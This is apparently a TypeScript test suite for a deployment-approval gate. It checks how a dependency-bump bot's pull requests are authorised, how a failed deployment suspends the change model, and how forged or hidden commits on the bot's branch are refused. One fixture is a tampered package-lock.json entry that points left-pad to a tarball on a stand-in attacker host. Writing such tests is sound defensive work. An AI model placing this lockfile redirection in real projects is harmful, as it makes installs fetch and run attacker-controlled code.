/** A bump of a bot from its pull request to a deployment that fails, without a hand-written record; and what people try on its branch. */
import { describe, expect, test } from 'vitest';
import { pullRequestEvent } from '../../demo/github/events.ts';
import { filesAt } from '../../demo/github/git-history.ts';
import type { EmbeddedGitHub } from '../../demo/github/server.ts';
import { BOT, botSeed, openBump, pushToBump } from './bots.ts';
import { carryOut, closeQuickly, startDeploy } from './closing.ts';
import { gate, withGitHub } from './harness.ts';
import { judgeQuickly } from './in-process.ts';
import { merge, REPO } from './payments.ts';
import { expectRead } from './what-people-read.ts';

/** A bot's address has brackets, which GitHub's own description takes for no address. */
const ADDRESS = /\/head_commit/;

const PRODUCTION = { environment: 'production' };
const NOW = '2026-11-24T10:10:00Z';

function textAt(github: EmbeddedGitHub, ref: string, path: string): string {
  const { objects } = github.repository(REPO);
  const entry = filesAt(objects, github.commit(REPO, ref)).get(path);
  return entry === undefined ? '' : String(objects.blobs.get(entry.sha));
}

test('it is green without a record, goes out, fails, and the failed use suspends the model', () =>
  withGitHub(
    async (github) => {
      const number = openBump(github);
      const reviewed = await gate(github, pullRequestEvent(github, REPO, number));
      expect([reviewed.decision, reviewed.run.exitCode], reviewed.raw).toEqual(['authorised', 0]);
      expect(reviewed.report.changes).toMatchObject([{ id: `dependency-bumps#${number}`, type: 'standard' }]);
      merge(github, number);
      const { event, run } = startDeploy(github, NOW);
      const deployed = await gate(github, event, { inputs: PRODUCTION });
      expect(deployed.decision, deployed.raw).toBe('authorised');
      expect(deployed.run.outputs['change-ids']).toBe(`dependency-bumps#${number}`);
      await expectRead('bots', { 'at review': reviewed, 'at deployment': deployed });
      carryOut(github, run, 'failure');

      const closed = await closeQuickly(github, event);
      expect([closed.exitCode, closed.kinds], closed.shown).toEqual([0, ['proposed']]);
      const record = `changes/dependency-bumps-${number}.yml`;
      const proposal = github.pull(REPO, number + 1);
      expect(textAt(github, proposal.headRef, record)).toContain('\noutcome:\n  result: failed\n');
      const adding = await judgeQuickly(github, pullRequestEvent(github, REPO, proposal.number));
      expect(adding.decision, adding.shown).toBe('not-required');
      github.mergePullRequest(REPO, proposal.number, { method: 'squash', by: 'cpatel' });

      const again = await judgeQuickly(github, startDeploy(github, '2026-11-24T10:40:00Z').event, PRODUCTION);
      expect([again.decision, again.reasons], again.shown).toEqual(['refused', ['model-suspended']]);
      expect(again.shown).toContain(`dependency-bumps-${number} used the model dependency-bumps and ended as failed`);
    },
    botSeed(),
    ADDRESS,
  ));

test('a success leaves nothing to write', () =>
  withGitHub(
    async (github) => {
      merge(github, openBump(github));
      const { event, run } = startDeploy(github, NOW);
      carryOut(github, run, 'success');
      const closed = await closeQuickly(github, event);
      expect([closed.exitCode, closed.kinds, closed.writes], closed.shown).toEqual([0, ['nothing-to-do'], []]);
    },
    botSeed(),
    ADDRESS,
  ));

describe('on the branch of the bot', () => {
  const ask = async (put: (github: EmbeddedGitHub, number: number) => void): Promise<readonly string[]> =>
    withGitHub(
      async (github) => {
        const number = openBump(github);
        put(github, number);
        const { decision, shown } = await judgeQuickly(github, pullRequestEvent(github, REPO, number));
        return [decision, shown];
      },
      botSeed(),
      ADDRESS,
    );
  const EVIL = { 'package-lock.json': '{"left-pad": "http://mallory.example/evil.tgz"}\n' };

  test('a commit under its name that a person pushed makes it a change like any other', async () => {
    const forged = { author: BOT, committer: 'web-flow', actor: 'asmith', files: EVIL };
    const [decision, shown] = await ask((github) => void pushToBump(github, forged));
    expect(decision, shown).toBe('refused');
    expect(shown).toContain('asmith pushed');
  });

  test('"Update branch" is no commit of a person, as its content shows', async () => {
    const [decision, shown] = await ask((github, number) => {
      github.push(REPO, 'main', { author: 'asmith', files: { 'README.txt': 'Another\n' } });
      github.updateBranch(REPO, number, { by: 'asmith' });
    });
    expect(decision, shown).toBe('authorised');
  });

  test('a merge that hides an edit is', async () => {
    const [decision, shown] = await ask((github) => {
      const main = github.push(REPO, 'main', { author: 'asmith', files: { 'README.txt': 'Another\n' } });
      const files = { 'README.txt': 'Another\n', ...EVIL };
      pushToBump(github, {
        author: 'asmith',
        committer: 'web-flow',
        alsoParents: [main],
        message: 'Merge main',
        files,
      });
    });
    expect(decision, shown).toBe('refused');
    expect(shown).toContain('was made by asmith');
  });
});
